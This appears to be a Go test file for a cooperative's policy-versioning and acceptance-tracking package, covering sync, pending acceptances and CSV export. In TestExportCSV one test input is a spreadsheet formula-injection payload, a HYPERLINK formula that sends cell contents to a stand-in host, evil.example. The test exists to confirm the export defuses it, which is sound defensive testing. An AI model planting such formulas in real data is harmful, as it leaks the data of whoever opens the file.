package policy

import (
	"context"
	"encoding/csv"
	"errors"
	"fmt"
	"maps"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/jackc/pgx/v5"
	"github.com/jackc/pgx/v5/pgxpool"

	"github.com/coopgate/coopgate/internal/database"
	"github.com/coopgate/coopgate/internal/people"
	"github.com/coopgate/coopgate/internal/people/peopletest"
	"github.com/coopgate/coopgate/internal/pgtest"
)

// Dates far from today, so no test depends on the hour it runs at or on the
// database's time zone.
const (
	longAgo = "2020-01-01"
	lastYr  = "2021-06-01"
)

func nextMonth() string { return time.Now().AddDate(0, 1, 0).Format(time.DateOnly) }

// newPolicy builds a policy the way Load does, so its hash is real.
func newPolicy(t *testing.T, id, version, effective string, required bool, body string) Policy {
	t.Helper()
	file := fmt.Sprintf("---\nid: %s\ntitle: Title of %s\nversion: %q\neffective: %s\nrequired: %v\n---\n%s",
		id, id, version, effective, required, body)
	p, err := parse([]byte(file))
	if err != nil {
		t.Fatalf("parse: %v", err)
	}
	return p
}

func mustSync(t *testing.T, db *pgxpool.Pool, ps ...Policy) {
	t.Helper()
	if err := Sync(context.Background(), db, ps); err != nil {
		t.Fatalf("Sync: %v", err)
	}
}

func accept(db *pgxpool.Pool, personID, ua string, refs ...PolicyRef) error {
	return database.InTx(context.Background(), db, func(tx pgx.Tx) error {
		return Accept(context.Background(), tx, personID, refs, "192.0.2.7", ua)
	})
}

func mustAccept(t *testing.T, db *pgxpool.Pool, personID string, refs ...PolicyRef) {
	t.Helper()
	if err := accept(db, personID, "Firefox", refs...); err != nil {
		t.Fatalf("Accept: %v", err)
	}
}

func count(t *testing.T, db *pgxpool.Pool, sql string, args ...any) int {
	t.Helper()
	var n int
	if err := db.QueryRow(context.Background(), sql, args...).Scan(&n); err != nil {
		t.Fatalf("%s: %v", sql, err)
	}
	return n
}

func ids(ps []Policy) []string {
	var out []string
	for _, p := range ps {
		out = append(out, p.ID+"@"+p.Version)
	}
	return out
}

func TestSyncIsIdempotent(t *testing.T) {
	t.Parallel()
	db := pgtest.New(t)
	a := newPolicy(t, "a", "1", longAgo, true, "A.\n")
	b := newPolicy(t, "b", "1", longAgo, false, "B.\n")
	for range 3 {
		mustSync(t, db, a, b)
	}
	if n := count(t, db, `SELECT count(*) FROM policy_versions`); n != 2 {
		t.Errorf("%d stored versions, want 2", n)
	}
	got, err := Version(context.Background(), db, "a", "1")
	if err != nil {
		t.Fatalf("Version: %v", err)
	}
	if got.SHA256 != a.SHA256 || got.Body != a.Body || got.HTML != a.HTML || !got.Effective.Equal(a.Effective) {
		t.Errorf("Version = %+v, want %+v", got, a)
	}
}

func TestSyncRefusesAnEditWithoutANewVersion(t *testing.T) {
	t.Parallel()
	stored := newPolicy(t, "a", "2", longAgo, true, "Original text.\n")
	tests := []struct {
		name string
		edit Policy
		want string
	}{
		{"text", newPolicy(t, "a", "2", longAgo, true, "Edited text.\n"),
			fmt.Sprintf(`policy "a" version "2": text changed but version not bumped (stored sha256 %s…, file %s…); give the edit a new version`,
				stored.SHA256[:12], newPolicy(t, "a", "2", longAgo, true, "Edited text.\n").SHA256[:12])},
		{"effective date", newPolicy(t, "a", "2", lastYr, true, "Original text.\n"), `effective changed but version not bumped`},
		{"required", newPolicy(t, "a", "2", longAgo, false, "Original text.\n"), `required changed but version not bumped`},
		{"title", func() Policy { p := stored; p.Title = "New"; return p }(), `title changed but version not bumped`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			db := pgtest.New(t)
			mustSync(t, db, stored)
			// The new policy comes first, to show its insert is rolled back.
			other := newPolicy(t, "other", "1", longAgo, true, "Other.\n")
			err := Sync(context.Background(), db, []Policy{other, tt.edit})
			if err == nil || !strings.Contains(err.Error(), tt.want) {
				t.Fatalf("Sync error = %v, want %q", err, tt.want)
			}
			if n := count(t, db, `SELECT count(*) FROM policy_versions`); n != 1 {
				t.Errorf("%d stored versions after a refused sync, want 1", n)
			}
			got, _ := Version(context.Background(), db, "a", "2")
			if got.SHA256 != stored.SHA256 || got.Required != stored.Required {
				t.Errorf("stored version changed: %+v", got)
			}
		})
	}
}

func TestCurrentPicksTheVersionInEffect(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	db := pgtest.New(t)
	mustSync(t, db, newPolicy(t, "a", "9", longAgo, true, "Nine.\n"))
	mustSync(t, db, newPolicy(t, "a", "10", lastYr, true, "Ten.\n"))
	mustSync(t, db, newPolicy(t, "a", "11", nextMonth(), true, "Eleven, not yet.\n"))
	// Same day as "10" but loaded later, with a name that sorts first.
	mustSync(t, db, newPolicy(t, "a", "10-fix", lastYr, true, "Ten, fixed.\n"))
	mustSync(t, db, newPolicy(t, "b", "x", nextMonth(), true, "Not yet in effect.\n"))

	current, err := Current(ctx, db)
	if err != nil {
		t.Fatalf("Current: %v", err)
	}
	if got := ids(current); !slices.Equal(got, []string{"a@10-fix"}) {
		t.Errorf("Current = %v, want [a@10-fix]", got)
	}
	if current[0].HTML != "<p>Ten, fixed.</p>\n" {
		t.Errorf("Current HTML = %q", current[0].HTML)
	}
	history, err := Versions(ctx, db, "a")
	if err != nil {
		t.Fatalf("Versions: %v", err)
	}
	if got, want := ids(history), []string{"a@11", "a@10-fix", "a@10", "a@9"}; !slices.Equal(got, want) {
		t.Errorf("Versions = %v, want %v", got, want)
	}
}

func TestNotFound(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	db := pgtest.New(t)
	mustSync(t, db, newPolicy(t, "a", "1", longAgo, true, "A.\n"))
	if _, err := Version(ctx, db, "a", "2"); !errors.Is(err, ErrNotFound) {
		t.Errorf("Version of a missing version: %v, want ErrNotFound", err)
	}
	if _, err := Versions(ctx, db, "b"); !errors.Is(err, ErrNotFound) {
		t.Errorf("Versions of a missing policy: %v, want ErrNotFound", err)
	}
	if _, err := NotAccepted(ctx, db, "b"); !errors.Is(err, ErrNotFound) {
		t.Errorf("NotAccepted of a missing policy: %v, want ErrNotFound", err)
	}
}

func TestAcceptWritesOneRowPerPolicy(t *testing.T) {
	t.Parallel()
	db := pgtest.New(t)
	a := newPolicy(t, "a", "1", longAgo, true, "A.\n")
	b := newPolicy(t, "b", "1", longAgo, true, "B.\n")
	mustSync(t, db, a, b)
	person := peopletest.Admitted(t, db, "ann@example.coop").ID
	rows := func() int {
		return count(t, db, `SELECT count(*) FROM policy_acceptances WHERE person_id = $1`, person)
	}

	mustAccept(t, db, person, a.Ref(), b.Ref(), a.Ref())
	if n := rows(); n != 2 {
		t.Fatalf("%d rows after accepting a, b, a; want 2", n)
	}
	mustAccept(t, db, person, a.Ref())
	if n := rows(); n != 3 {
		t.Errorf("%d rows after accepting a again; want 3 (each call is recorded)", n)
	}

	stale := a.Ref()
	stale.SHA256 = strings.Repeat("0", 64)
	if err := accept(db, person, "Firefox", b.Ref(), stale); !errors.Is(err, ErrUnknownVersion) {
		t.Errorf("Accept of text never stored: %v, want ErrUnknownVersion", err)
	}
	other := newPolicy(t, "a", "2", longAgo, true, "A two.\n")
	mustSync(t, db, other)
	if err := accept(db, person, "Firefox", a.Ref(), other.Ref()); err == nil {
		t.Error("Accept of two versions of one policy succeeded")
	}
	if n := rows(); n != 3 {
		t.Errorf("%d rows after refused acceptances; want 3", n)
	}
}

func TestAcceptStoresAnyUserAgent(t *testing.T) {
	t.Parallel()
	db := pgtest.New(t)
	a := newPolicy(t, "a", "1", longAgo, true, "A.\n")
	mustSync(t, db, a)
	person := peopletest.Admitted(t, db, "ann@example.coop").ID
	ua := "Bad\x00Agent \xff" + strings.Repeat("é", 1000)
	if err := accept(db, person, ua, a.Ref()); err != nil {
		t.Fatalf("Accept: %v", err)
	}
	got, err := Accepted(context.Background(), db, person)
	if err != nil || len(got) != 1 {
		t.Fatalf("Accepted = %v, %v", got, err)
	}
	if !strings.HasPrefix(got[0].UserAgent, "BadAgent \uFFFDé") || len(got[0].UserAgent) > maxUserAgent {
		t.Errorf("stored user agent %q (%d bytes)", got[0].UserAgent[:20], len(got[0].UserAgent))
	}
}

func TestPendingFollowsNewVersions(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	db := pgtest.New(t)
	a1 := newPolicy(t, "a", "1", longAgo, true, "A.\n")
	optional := newPolicy(t, "optional", "1", longAgo, false, "Optional.\n")
	mustSync(t, db, a1, optional)
	person := peopletest.Admitted(t, db, "ann@example.coop").ID
	pending := func() []string {
		t.Helper()
		ps, err := Pending(ctx, db, person)
		if err != nil {
			t.Fatalf("Pending: %v", err)
		}
		return ids(ps)
	}

	if got := pending(); !slices.Equal(got, []string{"a@1"}) {
		t.Errorf("Pending before accepting = %v, want [a@1]", got)
	}
	mustAccept(t, db, person, a1.Ref())
	if got := pending(); len(got) != 0 {
		t.Errorf("Pending after accepting = %v, want none", got)
	}
	mustSync(t, db, newPolicy(t, "a", "3", nextMonth(), true, "A, next month.\n"))
	if got := pending(); len(got) != 0 {
		t.Errorf("Pending with a version not yet in effect = %v, want none", got)
	}
	a2 := newPolicy(t, "a", "2", lastYr, true, "A, revised.\n")
	mustSync(t, db, a2)
	if got := pending(); !slices.Equal(got, []string{"a@2"}) {
		t.Errorf("Pending after a new version = %v, want [a@2]", got)
	}
	mustAccept(t, db, person, a2.Ref())
	if got := pending(); len(got) != 0 {
		t.Errorf("Pending after accepting the new version = %v, want none", got)
	}
}

func TestAcceptedVersions(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	db := pgtest.New(t)
	a1 := newPolicy(t, "a", "1", longAgo, true, "A.\n")
	a2 := newPolicy(t, "a", "2", lastYr, true, "A two.\n")
	b1 := newPolicy(t, "b", "1", longAgo, false, "B.\n")
	mustSync(t, db, a1, a2, b1)
	ann := peopletest.Admitted(t, db, "ann@example.coop").ID
	bob := peopletest.Admitted(t, db, "bob@example.coop").ID

	mustAccept(t, db, ann, a1.Ref(), b1.Ref())
	mustAccept(t, db, ann, a2.Ref())
	got, err := AcceptedVersions(ctx, db, ann)
	if err != nil {
		t.Fatalf("AcceptedVersions: %v", err)
	}
	if want := map[string]string{"a": "2", "b": "1"}; !maps.Equal(got, want) {
		t.Errorf("AcceptedVersions = %v, want %v", got, want)
	}
	if got, err := AcceptedVersions(ctx, db, bob); err != nil || len(got) != 0 {
		t.Errorf("AcceptedVersions of someone who accepted nothing = %v, %v", got, err)
	}

	history, err := Accepted(ctx, db, ann)
	if err != nil {
		t.Fatalf("Accepted: %v", err)
	}
	if len(history) != 3 || history[0].PolicyID != "a" || history[0].Version != "2" ||
		history[0].Title != "Title of a" || history[0].IP != "192.0.2.7" || history[0].SHA256 != a2.SHA256 {
		t.Errorf("Accepted = %+v", history)
	}
}

func TestNotAccepted(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	db := pgtest.New(t)
	a1 := newPolicy(t, "a", "1", longAgo, true, "A.\n")
	mustSync(t, db, a1)
	ann := peopletest.Admitted(t, db, "ann@example.coop").ID
	peopletest.Admitted(t, db, "bob@example.coop")
	peopletest.Create(t, db, people.New{Email: "cat@example.coop", Status: people.AwaitingApproval})
	peopletest.Create(t, db, people.New{Email: "dan@example.coop", Status: people.Ceased})
	peopletest.Create(t, db, people.New{Email: "eve@example.coop", Status: people.Rejected})
	mustAccept(t, db, ann, a1.Ref())
	emails := func() []string {
		t.Helper()
		people, err := NotAccepted(ctx, db, "a")
		if err != nil {
			t.Fatalf("NotAccepted: %v", err)
		}
		var out []string
		for _, p := range people {
			out = append(out, p.Email+" "+p.Status)
		}
		return out
	}

	want := []string{"bob@example.coop admitted", "cat@example.coop awaiting_approval"}
	if got := emails(); !slices.Equal(got, want) {
		t.Errorf("NotAccepted = %v, want %v", got, want)
	}
	mustSync(t, db, newPolicy(t, "a", "2", lastYr, true, "A two.\n"))
	want = slices.Insert(want, 0, "ann@example.coop admitted")
	if got := emails(); !slices.Equal(got, want) {
		t.Errorf("NotAccepted after a new version = %v, want %v", got, want)
	}
}

func TestExportCSV(t *testing.T) {
	t.Parallel()
	db := pgtest.New(t)
	a := newPolicy(t, "a", "1", longAgo, true, "A.\n")
	mustSync(t, db, a)
	ann := peopletest.Admitted(t, db, "ann@example.coop").ID
	bob := peopletest.Admitted(t, db, "bob@example.coop").ID
	mustAccept(t, db, ann, a.Ref())
	evil := `=HYPERLINK("https://evil.example/?"&A1, "click")`
	if err := accept(db, bob, evil, a.Ref()); err != nil {
		t.Fatalf("Accept: %v", err)
	}

	var buf strings.Builder
	if err := ExportCSV(context.Background(), db, &buf); err != nil {
		t.Fatalf("ExportCSV: %v", err)
	}
	records, err := csv.NewReader(strings.NewReader(buf.String())).ReadAll()
	if err != nil {
		t.Fatalf("reading the export back: %v\n%s", err, buf.String())
	}
	header := []string{"person_id", "email", "policy_id", "version", "sha256", "accepted_at", "ip", "user_agent"}
	if len(records) != 3 || !slices.Equal(records[0], header) {
		t.Fatalf("export =\n%s", buf.String())
	}
	first := records[1]
	if first[0] != ann || first[1] != "ann@example.coop" || first[2] != "a" || first[3] != "1" ||
		first[4] != a.SHA256 || first[6] != "192.0.2.7" || first[7] != "Firefox" {
		t.Errorf("first record = %q", first)
	}
	if _, err := time.Parse(time.RFC3339, first[5]); err != nil {
		t.Errorf("accepted_at %q: %v", first[5], err)
	}
	if got := records[2][7]; got != "'"+evil {
		t.Errorf("user agent cell = %q, want it defused with a leading quote", got)
	}
}
